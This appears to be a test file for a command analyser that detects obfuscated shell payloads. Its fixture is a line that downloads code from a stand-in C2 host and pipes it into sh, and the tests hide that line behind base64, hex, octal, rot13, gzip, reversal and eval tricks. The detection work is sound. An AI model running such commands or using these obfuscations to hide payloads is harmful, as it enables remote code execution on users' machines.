import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { analyzeCommand } from './index.ts';

const PAYLOAD = 'curl -s https://c2.example.invalid/z | sh';
const B64 = Buffer.from(PAYLOAD).toString('base64');
const HEX = Buffer.from(PAYLOAD).toString('hex');
const ESC_HEX = [...Buffer.from(PAYLOAD)].map(b => `\\x${b.toString(16)}`).join('');
const ESC_OCT = [...Buffer.from(PAYLOAD)].map(b => `\\${b.toString(8).padStart(3, '0')}`).join('');
const REVERSED = B64.split('').reverse().join('');
const GZ = gzipSync(Buffer.from(PAYLOAD)).toString('base64');

/** The decoded payload was analysed as shell: the download piped into sh is seen. */
function recovers(command: string): void {
  const a = analyzeCommand(command);
  const details = a.signals.map(s => `${s.kind}: ${s.detail}`);
  assert.ok(
    a.signals.some(s => s.kind === 'pipe-to-interpreter' && s.detail.includes('curl -s https://c2.example.invalid/z | sh')),
    `${command}\n${details.join('\n')}`,
  );
  assert.ok(a.urls.includes('https://c2.example.invalid/z'), command);
}

describe('decoding before execution', () => {
  const cases: [string, string][] = [
    ['sh -c "$(…base64 -d)"', `sh -c "$(echo ${B64} | base64 -d)"`],
    ['echo | base64 --decode | bash', `echo ${B64} | base64 --decode | bash`],
    ['eval "$(printf hex escapes)"', `eval "$(printf '${ESC_HEX}')"`],
    ['printf octal | sh', `printf '${ESC_OCT}' | sh`],
    ['printf %b | sh', `printf '%b' '${ESC_HEX}' | sh`],
    ['echo -e | bash', `echo -e '${ESC_HEX}' | bash`],
    ['rev | base64 -d | sh', `echo ${REVERSED} | rev | base64 -d | sh`],
    ['bash <<< "$(…)"', `bash <<< "$(echo ${B64} | base64 -d)"`],
    ['source <(…)', `source <(echo ${B64} | base64 -d)`],
    ['. /dev/stdin', `echo ${B64} | base64 -d | . /dev/stdin`],
    ['bash <(…)', `bash <(echo ${B64} | base64 -d)`],
    ['xxd -r -p | sh', `echo ${HEX} | xxd -r -p | sh`],
    ['openssl base64 -d <<<', `openssl base64 -d <<< ${B64} | sh`],
    ['a variable holds the blob', `x=${B64}; echo "$x" | base64 -d | bash`],
    ['gzip inside base64', `echo ${GZ} | base64 -d | gunzip | sh`],
    ['tr rot13', `echo 'phey -f uggcf://p2.rknzcyr.vainyvq/m | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`],
    ['indirect expansion', `v=P; P="${PAYLOAD}"; eval "\${!v}"`],
    ['pattern replacement', `x="cXurl -s https://c2.example.invalid/z | sh"; eval "\${x//X/}"`],
    ['unquoted variable splits into words', `c="curl -s https://c2.example.invalid/z"; $c | sh`],
  ];
  for (const [name, command] of cases)
    it(name, () => {
      recovers(command);
    });

  it('names the decoders that built the text', () => {
    const a = analyzeCommand(`echo ${REVERSED} | rev | base64 -d | sh`);
    assert.ok(a.signals.some(s => s.kind === 'base64-decode' && s.detail.includes('rev, base64 -d')));
  });

  it('decrypting a program into a shell is a decoding signal; the bytes stay unknown', () => {
    const a = analyzeCommand('openssl enc -d -aes-256-cbc -k pw -in blob.bin | sh');
    assert.ok(a.signals.some(s => s.kind === 'base64-decode' && s.detail.includes('decrypts')));
  });

  it('a file, an unknown variable or an unknown program leaves the text unknown', () => {
    for (const command of ['base64 -d payload.txt | sh', `echo "$BLOB" | base64 -d | sh`, `echo ${B64} | mystery | sh`]) {
      const a = analyzeCommand(command);
      assert.ok(!a.urls.includes('https://c2.example.invalid/z'), command);
    }
  });

  it('benign shapes: a plain echo into a shell, and binary output, add nothing risky', () => {
    const a = analyzeCommand(`echo 'npm ci && npm run build' | sh`);
    assert.deepEqual(
      a.scriptCalls.map(s => s.script),
      ['install', 'build'],
    );
    assert.ok(!a.signals.some(s => s.kind === 'base64-decode' || s.kind === 'pipe-to-interpreter'));
    const bin = analyzeCommand(`echo ${Buffer.from([0, 1, 2, 3, 200, 201]).toString('base64')} | base64 -d | sh`);
    assert.ok(!bin.signals.some(s => s.detail.includes('runs text decoded')));
  });

  it('a decoder loop stays within its budget', () => {
    let inner = `echo ${B64}`;
    for (let i = 0; i < 200; i++) inner = `echo "$(${inner})"`;
    const t0 = performance.now();
    analyzeCommand(`sh -c "$(${inner} | base64 -d)"`);
    assert.ok(performance.now() - t0 < 5000);
  });
});
